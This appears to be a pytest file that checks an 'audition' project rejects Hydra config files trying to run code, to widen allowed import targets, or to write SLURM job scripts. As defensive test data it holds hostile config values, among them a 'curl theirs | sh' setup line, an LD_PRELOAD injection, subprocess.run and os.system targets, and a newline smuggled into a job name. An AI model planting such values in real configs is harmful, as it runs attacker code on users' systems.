"""No code from data: what a file of a config, or of a ledger, may name."""

from pathlib import Path

import pytest
from hydra import compose, initialize_config_dir
from omegaconf import OmegaConf

from audition.config import trust
from audition.config.root import conf_dir
from audition.config.trust import check_hydra_code, check_trusted, trusted
from audition.errors import AuditionError
from audition.sweep.arms import Question, with_arms
from audition.sweep.compose import Composer, settings_of
from audition.sweep.quick_hydra import hurry

WORDS = ("allowed_targets=[audition.,mylab.]",)


def test_prefixes_are_the_checkouts_and_the_typed() -> None:
    assert trusted(("seed=3", "+idea=placebo")) == ("audition.",)
    assert trusted(WORDS) == ("audition.", "audition.", "mylab.")
    check_trusted(["audition.", "mylab.", "mylab.parts."], WORDS)
    for allowed, words in (
        (["audition.", "mylab."], ()),
        (["audition.", "os."], WORDS),
        (["audition.", ""], WORDS),
        (["mylaboratory."], WORDS),
        (["auditions."], ()),
    ):
        with pytest.raises(AuditionError, match="a file has put there"):
            check_trusted(allowed, words)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A `--config-dir` of somebody else's."""
    (tmp_path / "idea").mkdir()
    return tmp_path


def idea(folder: Path, text: str) -> tuple[str, ...]:
    """The words that choose an idea whose file says `text`."""
    (folder / "idea" / "theirs.yaml").write_text(f"# @package _global_\n{text}\n")
    return (f"hydra.searchpath=[{folder}]", "+idea=theirs")


def test_a_file_of_a_config_folder_does_not_widen_what_may_be_named(folder: Path) -> None:
    search, chosen = idea(folder, "allowed_targets: [audition., subprocess.]")
    with initialize_config_dir(str(conf_dir()), version_base="1.3"):
        composer = Composer("audition", (search,))
        with pytest.raises(AuditionError, match=r"has 'subprocess\.', which a file has put there"):
            composer([chosen])
        with pytest.raises(AuditionError, match="which a file has put there"):
            settings_of(compose("audition", [search, chosen]), [chosen])
        typed = "allowed_targets=[audition.,subprocess.]"
        assert "subprocess." in composer([chosen, typed])["allowed_targets"]


HYDRAS = {
    "a callback": "callbacks: {x: {_target_: subprocess.run, args: [id]}}",
    "one of Hydra's that imports": "callbacks: {x: {_target_: hydra.utils.get_object, path: y}}",
    "a callback by reference": "callbacks: {x: '${.y}', y: {_target_: os.system}}",
    "a target by reference": "callbacks: {x: {_target_: '${hydra.help.app_name}'}}",
    "a launcher": "launcher: {_target_: subprocess.run}",
    "a sweeper's part": "sweeper: {sampler: {_target_: os.system}}",
    "a handler of the log": "job_logging: {handlers: {x: {(): subprocess.Popen, args: id}}}",
    "a class of the log": "hydra_logging: {formatters: {x: {class: theirs.Formatter}}}",
    "an import of the log": "job_logging: {handlers: {x: {stream: 'ext://theirs.payload'}}}",
    "an environment": "job: {env_set: {LD_PRELOAD: theirs.so}}",
}


@pytest.mark.parametrize("text", HYDRAS.values(), ids=HYDRAS)
def test_hydras_own_node_names_no_code_of_a_file(folder: Path, text: str) -> None:
    words = idea(folder, f"hydra: {{{text}}}")
    hurry()
    with (
        initialize_config_dir(str(conf_dir()), version_base="1.3"),
        pytest.raises(AuditionError, match=r"is not allowed|comes from a file"),
    ):
        compose("audition", list(words), return_hydra_config=True)


SCRIPTS = {
    "lines of the shell": "setup: ['curl theirs | sh']",
    "lines by reference": "setup: ['${hydra.job.name}; id']",
    "parameters of sbatch": "additional_parameters: {export: 'ALL,LD_PRELOAD=theirs.so'}",
    "a line within a name": 'name: "audition\\nid"',
}


@pytest.mark.parametrize("text", SCRIPTS.values(), ids=SCRIPTS)
def test_a_file_does_not_write_the_script_of_a_job(folder: Path, text: str) -> None:
    words = (*idea(folder, f"hydra: {{launcher: {{{text}}}}}"), "hydra/launcher=slurm_cpu")
    hurry()
    with initialize_config_dir(str(conf_dir()), version_base="1.3"):
        with pytest.raises(AuditionError, match=r"hydra\.launcher\.\w+ comes from a file"):
            compose("audition", list(words), return_hydra_config=True)
        typed = (
            "hydra.launcher.setup=[module load cuda]",
            "++hydra.launcher.additional_parameters.export=NONE",
            "hydra.launcher.name=mine",
        )
        made = compose("audition", [*words, *typed], return_hydra_config=True)
        assert made.hydra.launcher.setup == ["module load cuda"]
        assert made.hydra.launcher.additional_parameters == {"export": "NONE"}


def test_the_launchers_of_the_checkout_may_have_lines_of_the_shell(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shell = {"launcher": {"setup": ["module load cuda"]}}
    with pytest.raises(AuditionError, match="comes from a file"):
        check_hydra_code(OmegaConf.create(shell), ())
    (tmp_path / "hydra/launcher").mkdir(parents=True)
    (tmp_path / "hydra/launcher/ours.yaml").write_text("setup: [module load cuda]\n")
    monkeypatch.setattr(trust, "conf_dir", lambda: tmp_path)
    check_hydra_code(OmegaConf.create(shell), ())


def test_what_is_typed_and_what_is_hydras_may_be_named() -> None:
    node = OmegaConf.create(
        {
            "callbacks": {
                "log": {"_target_": "hydra.experimental.callbacks.LogJobReturnCallback"},
                "own": {"_target_": "mylab.Callback"},
            },
            "sweeper": {"sampler": {"_target_": "optuna.samplers.TPESampler"}},
            "job_logging": {"handlers": {"x": {"class": "logging.StreamHandler"}}},
            "job": {"env_set": {"A": "1"}},
        }
    )
    check_hydra_code(node, (*WORDS, "+hydra.job.env_set.A=1"))
    with pytest.raises(
        AuditionError, match=r"hydra\.callbacks\.own\._target_=mylab\.Callback is not"
    ):
        check_hydra_code(node, ("+hydra.job.env_set.A=1",))


def test_a_campaign_does_not_say_which_code_is_run() -> None:
    with pytest.raises(AuditionError, match="is for you to type"):
        with_arms(Question((), (), None), ["preset=x allowed_targets=[audition.,os.]"])
